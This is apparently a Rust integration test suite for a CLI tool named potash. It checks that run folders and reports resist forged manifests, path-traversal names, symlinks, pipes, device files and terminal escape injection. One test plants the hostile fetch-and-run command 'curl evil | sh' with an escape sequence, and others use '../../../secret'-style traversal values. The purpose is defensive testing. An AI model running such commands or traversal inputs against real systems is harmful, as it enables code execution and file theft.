//! Run folders on disk: nothing of the user's is lost, nothing outside is touched, and strangers' folders get nowhere.

#![cfg(unix)]

use assert_cmd::cargo::cargo_bin;
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;
use tempfile::TempDir;

fn scenario(name: &str) -> PathBuf {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/..")).join("scenarios").join(name)
}

/// A short run of a few draws.
fn short_run(out: &Path) -> Command {
    let mut command = Command::new(cargo_bin("potash"));
    command.arg("run").arg(scenario("us-only.toml")).args(["--set", "horizon.quarters=4", "--draws", "3"]);
    command.arg("--out").arg(out);
    command
}

fn report(run: &Path, options: &[&str]) -> Output {
    Command::new(cargo_bin("potash")).arg("report").arg(run).args(options).output().unwrap()
}

fn told(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

fn succeeds(output: &Output) {
    assert!(output.status.success(), "{:?} {}", output.status, told(output));
}

/// One finished run, made once and never written to.
fn made() -> &'static Path {
    static MADE: OnceLock<(TempDir, PathBuf)> = OnceLock::new();
    let (_, path) = MADE.get_or_init(|| {
        let out = tempfile::tempdir().unwrap();
        succeeds(&short_run(out.path()).output().unwrap());
        let path = out.path().join("us-only");
        (out, path)
    });
    path
}

/// A copy of the finished run, three folders deep.
fn copy() -> (TempDir, PathBuf) {
    let top = tempfile::tempdir().unwrap();
    let run = top.path().join("a/b/run");
    fs::create_dir_all(&run).unwrap();
    for entry in fs::read_dir(made()).unwrap() {
        let entry = entry.unwrap();
        fs::copy(entry.path(), run.join(entry.file_name())).unwrap();
    }
    (top, run)
}

fn json_of(path: &Path) -> Value {
    serde_json::from_slice(&fs::read(path).unwrap()).unwrap()
}

fn hash(bytes: &[u8]) -> String {
    potash_cli::report::folder::hash(bytes)
}

/// Changes the results and gives the manifest their new hash, as a stranger would.
fn forge(run: &Path, change: impl Fn(&mut Value)) {
    let mut results = json_of(&run.join("results.json"));
    change(&mut results);
    let bytes = results.to_string().into_bytes();
    fs::write(run.join("results.json"), &bytes).unwrap();
    forge_manifest(run, |manifest| {
        manifest["outputs"] = json!([{ "file": "results.json", "sha256": hash(&bytes) }]);
    });
}

fn forge_manifest(run: &Path, change: impl Fn(&mut Value)) {
    let mut manifest = json_of(&run.join("manifest.json"));
    change(&mut manifest);
    fs::write(run.join("manifest.json"), manifest.to_string()).unwrap();
}

/// Puts `new` in the place of every name that is `old`.
fn rename(value: &mut Value, old: &str, new: &str) {
    match value {
        Value::Object(map) => {
            for (key, value) in map {
                match value.as_str() == Some(old) && (key == "name" || key == "scenario") {
                    true => *value = json!(new),
                    false => rename(value, old, new),
                }
            }
        }
        Value::Array(list) => list.iter_mut().for_each(|value| rename(value, old, new)),
        _ => {}
    }
}

/// Every path below a folder, sorted.
fn listing(folder: &Path) -> Vec<PathBuf> {
    let (mut found, mut waiting) = (Vec::new(), vec![folder.to_path_buf()]);
    while let Some(path) = waiting.pop() {
        for entry in fs::read_dir(path).unwrap() {
            let entry = entry.unwrap();
            if entry.file_type().unwrap().is_dir() {
                waiting.push(entry.path());
            }
            found.push(entry.path().strip_prefix(folder).unwrap().to_path_buf());
        }
    }
    found.sort();
    found
}

#[test]
fn a_scenario_whose_name_in_the_results_could_be_a_path_is_refused_and_nothing_is_written() {
    for name in ["/../../../../escaped", "..", "a/b", "", "/tmp/x", "Us", "us\u{1b}only", &"x".repeat(65)] {
        let (top, run) = copy();
        fs::write(top.path().join("a/escaped.svg"), "precious").unwrap();
        forge(&run, |results| rename(results, "us-only", name));
        let before = listing(top.path());
        let out = top.path().join("out").display().to_string();
        for options in [&["--format", "svg,png,csv"][..], &["--format", "svg", "--out", &out], &[]] {
            let output = report(&run, options);
            assert_eq!(output.status.code(), Some(65), "{name:?} {options:?} {}", told(&output));
            assert!(told(&output).contains("no scenario can be called") && !told(&output).contains('\u{1b}'));
        }
        assert_eq!(listing(top.path()), before, "{name:?}");
        assert_eq!(fs::read(top.path().join("a/escaped.svg")).unwrap(), b"precious");
    }
}

#[test]
fn charts_and_pages_are_not_written_through_links_in_a_runs_folder() {
    let (top, run) = copy();
    let outside = top.path().join("outside");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("page"), "precious").unwrap();
    symlink(&outside, run.join("redrawn")).unwrap();
    symlink(outside.join("page"), run.join("report.html")).unwrap();
    for options in [&["--format", "csv"][..], &[]] {
        let output = report(&run, options);
        assert!(
            output.status.code() == Some(65) && told(&output).contains("not followed"),
            "{}",
            told(&output)
        );
    }
    assert_eq!(listing(&outside), [Path::new("page")]);
    assert_eq!(fs::read(outside.join("page")).unwrap(), b"precious");
    // A pipe that nobody reads would block.
    fs::remove_file(run.join("report.html")).unwrap();
    assert!(Command::new("mkfifo").arg(run.join("report.html")).status().unwrap().success());
    assert_eq!(report(&run, &[]).status.code(), Some(65));
}

#[test]
fn a_manifest_names_plain_files_in_its_own_folder_or_the_run_is_refused() {
    let (top, _) = copy();
    let secret = top.path().join("secret");
    fs::write(&secret, "secret").unwrap();
    let names =
        ["/dev/zero", "../../../secret", secret.to_str().unwrap(), "link", "device", "pipe", "folder", ""];
    for name in names {
        let (top, run) = copy();
        fs::write(top.path().join("secret"), "secret").unwrap();
        symlink("../../../secret", run.join("link")).unwrap();
        symlink("/dev/zero", run.join("device")).unwrap();
        fs::create_dir(run.join("folder")).unwrap();
        assert!(Command::new("mkfifo").arg(run.join("pipe")).status().unwrap().success());
        // With the right hash, too: it is nobody's business whether a file holds what somebody guesses.
        for sha in [hash(b"secret"), String::new()] {
            forge_manifest(&run, |manifest| {
                manifest["outputs"].as_array_mut().unwrap().push(json!({ "file": name, "sha256": sha }));
            });
            let output = report(&run, &["--out", "-"]);
            assert_eq!(output.status.code(), Some(65), "{name} {}", told(&output));
            assert!(!told(&output).contains("SHA-256"), "{name} {}", told(&output));
        }
    }
    // Nor is a file named twice, or a manifest that is a pipe or a link.
    let (_top, run) = copy();
    forge_manifest(&run, |manifest| {
        let twice = manifest["outputs"][0].clone();
        manifest["outputs"].as_array_mut().unwrap().push(twice);
    });
    assert!(told(&report(&run, &["--out", "-"])).contains("twice"));
    for way in ["pipe", "link"] {
        fs::remove_file(run.join("manifest.json")).unwrap();
        match way {
            "pipe" => {
                Command::new("mkfifo").arg(run.join("manifest.json")).status().unwrap();
            }
            _ => symlink(made().join("manifest.json"), run.join("manifest.json")).unwrap(),
        }
        assert_eq!(report(&run, &["--out", "-"]).status.code(), Some(65), "{way}");
    }
}

#[test]
fn what_a_folder_says_of_itself_is_quoted_and_cannot_drive_a_terminal() {
    let (_top, run) = copy();
    forge_manifest(&run, |manifest| manifest["command"] = json!("curl evil | sh \u{1b}]0;owned\u{7}"));
    fs::write(run.join("summary.csv"), "edited").unwrap();
    let output = report(&run, &[]);
    let told = told(&output);
    assert_eq!(output.status.code(), Some(65));
    assert!(told.contains("run it again, with --force"), "{told}");
    assert!(
        told.contains("the folder says that it was made by: curl evil | sh \\u{1b}]0;owned\\u{7}"),
        "{told}"
    );
    assert!(!told.contains('\u{1b}') && !told.contains('\u{7}'));
    forge_manifest(&run, |manifest| manifest["program"] = json!("another"));
    let output = report(&run, &[]);
    assert!(output.status.code() == Some(65), "{output:?}");
}

#[test]
fn charts_of_two_runs_with_folders_of_one_name_do_not_overwrite_each_other() {
    let (top, one) = copy();
    let two = top.path().join("c/run");
    fs::create_dir(top.path().join("c")).unwrap();
    fs::rename(&one, &two).unwrap();
    let (_other, one) = copy();
    let out = top.path().join("out").display().to_string();
    let output = report(&one, &[two.to_str().unwrap(), "--format", "csv", "--force", "--out", &out]);
    assert!(output.status.code() == Some(2) && told(&output).contains("one by one"), "{}", told(&output));
    assert!(!top.path().join("out").exists());
}

#[test]
fn numbers_that_fit_no_chart_are_a_fault_of_the_data() {
    let spoil: [fn(&mut Value); 2] = [
        |results| {
            results["results"]["study"]["reference_value"] = json!({ "value": 1e308, "label": "before" })
        },
        |results| results["results"]["study"]["reference_value"] = json!([-1e308, "before"]),
    ];
    for change in spoil {
        for options in
            [&["--format", "svg", "--out", "-", "--chart", "revenue-over-time"][..], &["--out", "-"]]
        {
            let (_top, run) = copy();
            forge(&run, change);
            let output = report(&run, options);
            assert_eq!(output.status.code(), Some(65), "{}", told(&output));
            assert!(!told(&output).contains("fault of potash"), "{}", told(&output));
        }
    }
}

#[test]
fn a_chart_that_the_run_left_out_is_left_out_of_its_page_too() {
    let (_top, run) = copy();
    forge(&run, |results| {
        results["results"]["study"]["reference_value"] = json!({ "value": 1e308, "label": "before" })
    });
    let charts = ["revenue-over-time", "revenue-distribution", "price-changes", "trade-by-market"];
    forge_manifest(&run, |manifest| {
        manifest["charts_left_out"] = charts.map(|chart| json!({ "chart": chart, "reason": "" })).into();
    });
    let output = report(&run, &["--out", "-"]);
    succeeds(&output);
    assert!(String::from_utf8_lossy(&output.stdout).contains("is left out, as it cannot be drawn"));
    succeeds(&report(&run, &["--format", "svg"]));
    assert!(!run.join("redrawn/revenue-over-time.svg").exists());
}

#[test]
fn a_loop_that_is_run_twice_loses_nothing_and_leaves_nothing_twice() {
    let top = tempfile::tempdir().unwrap();
    let out = top.path().join("outputs");
    let once = || -> Vec<String> {
        ["3", "4", "5"]
            .iter()
            .map(|sigma| {
                let output =
                    short_run(&out).args(["--quiet", "--set", &format!("model.sigma={sigma}")]).output();
                let output = output.unwrap();
                succeeds(&output);
                told(&output)
            })
            .collect()
    };
    let first = once();
    let line = format!(
        "{} holds another run; this one is in {}\n",
        out.join("us-only").display(),
        out.join("us-only-2").display()
    );
    assert_eq!((first[0].as_str(), first[1].as_str()), ("", line.as_str()));
    succeeds(&report(&out.join("us-only"), &["--quiet"]));
    succeeds(&report(&out.join("us-only-2"), &["--format", "csv", "--quiet"]));
    fs::create_dir(out.join("us-only/mine")).unwrap();
    fs::write(out.join("us-only/mine/notes.txt"), "notes").unwrap();
    let (listed, page) = (listing(&out), fs::read(out.join("us-only/report.html")).unwrap());
    assert_eq!(once(), first);
    assert_eq!(listing(&out), listed);
    assert_eq!(fs::read(out.join("us-only/mine/notes.txt")).unwrap(), b"notes");
    assert_eq!(fs::read(out.join("us-only/report.html")).unwrap(), page);
    assert!(fs::read_dir(&out).unwrap().count() == 3);
    for (name, sigma) in [("us-only", "3"), ("us-only-2", "4"), ("us-only-3", "5")] {
        let command = json_of(&out.join(name).join("manifest.json"))["command"].to_string();
        assert!(command.contains(&format!("model.sigma={sigma}")), "{name}: {command}");
    }
}

#[test]
fn with_force_a_run_takes_the_name_of_another_and_says_what_stays_of_that_one() {
    let out = tempfile::tempdir().unwrap();
    succeeds(&short_run(out.path()).args(["--quiet", "--report"]).output().unwrap());
    let home = out.path().join("us-only");
    fs::write(home.join("notes.txt"), "mine").unwrap();
    let forced = |more: &[&str]| {
        let output = short_run(out.path()).args(["--quiet", "--force"]).args(more).output().unwrap();
        succeeds(&output);
        told(&output)
    };
    let line = format!("kept in {}, of the run that was replaced: report.html\n", home.display());
    assert_eq!(forced(&["--seed", "2"]), line);
    assert_eq!(json_of(&home.join("manifest.json"))["seed"], 2);
    // A page that is made anew shows the new run.
    assert_eq!(forced(&["--seed", "3", "--report"]), "");
    assert_eq!(fs::read(home.join("notes.txt")).unwrap(), b"mine");
    assert_eq!(fs::read_dir(out.path()).unwrap().count(), 1);
    succeeds(&report(&home, &[]));
}

#[test]
fn a_folder_that_is_nobodys_run_is_not_touched() {
    let out = tempfile::tempdir().unwrap();
    let site = out.path().join("site");
    fs::create_dir(&site).unwrap();
    fs::write(site.join("manifest.json"), "{\"name\": \"my web app\"}").unwrap();
    fs::write(site.join("thesis.txt"), "thesis").unwrap();
    symlink(made(), out.path().join("link")).unwrap();
    for name in ["site", "link"] {
        for force in [&["--force"][..], &[]] {
            let output = short_run(out.path()).args(["--name", name]).args(force).output().unwrap();
            assert_eq!(output.status.code(), Some(74), "{}", told(&output));
            assert!(told(&output).contains("is no run folder"), "{}", told(&output));
        }
    }
    assert_eq!(listing(out.path()).len(), 4);
    assert_eq!(fs::read(site.join("thesis.txt")).unwrap(), b"thesis");
}

#[test]
fn two_processes_of_one_name_at_once_lose_nothing() {
    let top = tempfile::tempdir().unwrap();
    let out = top.path().join("outputs");
    for _ in 0..2 {
        let seeds = ["1", "2", "1", "3"];
        let running: Vec<_> = seeds
            .iter()
            .map(|seed| {
                short_run(&out).args(["--quiet", "--seed", seed]).stdout(Stdio::null()).spawn().unwrap()
            })
            .collect();
        for mut process in running {
            assert!(process.wait().unwrap().success());
        }
        let mut seeds: Vec<u64> = fs::read_dir(&out)
            .unwrap()
            .map(|run| json_of(&run.unwrap().path().join("manifest.json"))["seed"].as_u64().unwrap())
            .collect();
        seeds.sort_unstable();
        assert_eq!(seeds, [1, 2, 3]);
    }
}

/// Runs a shell line whose `"$@"` is a short run.
fn in_shell(line: &str, out: &Path) -> Output {
    let run = short_run(out);
    Command::new("sh").args(["-c", line, "sh"]).arg(run.get_program()).args(run.get_args()).output().unwrap()
}

#[test]
fn the_users_mask_decides_who_may_read_a_run() {
    let top = tempfile::tempdir().unwrap();
    for (mask, folder, file) in [("077", 0o700, 0o600), ("027", 0o750, 0o640)] {
        let out = top.path().join(mask);
        succeeds(&in_shell(&format!("umask {mask}; \"$@\" --report"), &out));
        let mode = |path: &Path| path.metadata().unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&out.join("us-only")), folder);
        for entry in fs::read_dir(out.join("us-only")).unwrap() {
            let path = entry.unwrap().path();
            assert_eq!(mode(&path), file, "{}", path.display());
        }
    }
}

#[test]
fn a_file_that_may_not_grow_is_an_error_with_its_path_and_leaves_nothing() {
    let top = tempfile::tempdir().unwrap();
    let out = top.path().join("outputs");
    for blocks in [0, 8, 60] {
        // Files of so many blocks of 512 or 1024 bytes; the signal is not ignored here.
        let output = in_shell(&format!("ulimit -f {blocks}; \"$@\""), &out);
        assert_eq!(output.status.code(), Some(74), "{:?} {}", output.status, told(&output));
        assert!(told(&output).contains("us-only/"), "{}", told(&output));
        assert!(!out.exists());
    }
}

#[test]
fn devices_are_written_into_and_a_full_one_is_an_error() {
    let (_top, run) = copy();
    succeeds(&report(&run, &["--out", "/dev/null", "--force"]));
    let usage = report(&run, &["--out", "/dev/null"]);
    assert!(usage.status.code() == Some(2) && told(&usage).contains("--force"), "{}", told(&usage));
    if !Path::new("/dev/full").exists() {
        return;
    }
    for options in
        [&["--out", "/dev/full", "--force"][..], &["--out", "/dev/full", "--format", "svg", "--force"]]
    {
        let output = report(&run, options);
        assert!(output.status.code() == Some(74) && told(&output).contains("/dev/full"), "{}", told(&output));
    }
    let output = in_shell("\"$@\" 2>&1", Path::new("/dev/full"));
    assert_eq!(output.status.code(), Some(74));
    // The answer cannot be printed, but the run is there, and it is said where.
    let out = tempfile::tempdir().unwrap();
    let output = in_shell("\"$@\" > /dev/full", out.path());
    assert_eq!(output.status.code(), Some(74), "{}", told(&output));
    assert!(told(&output).contains("stdout") && told(&output).contains("us-only"), "{}", told(&output));
    succeeds(&report(&out.path().join("us-only"), &[]));
    let full = fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let mut command = Command::new(cargo_bin("potash"));
    let status = command.arg("report").arg(&run).args(["--out", "-"]).stdout(full).status().unwrap();
    assert_eq!(status.code(), Some(74));
}

#[test]
fn what_a_killed_run_left_is_cleared_by_the_next() {
    let out = tempfile::tempdir().unwrap();
    let left = out.path().join(".potash-abcdefghij.work");
    fs::create_dir_all(left.join("run")).unwrap();
    fs::write(left.join("run/summary.csv"), "half").unwrap();
    succeeds(&short_run(out.path()).output().unwrap());
    assert_eq!(fs::read_dir(out.path()).unwrap().count(), 1);
}
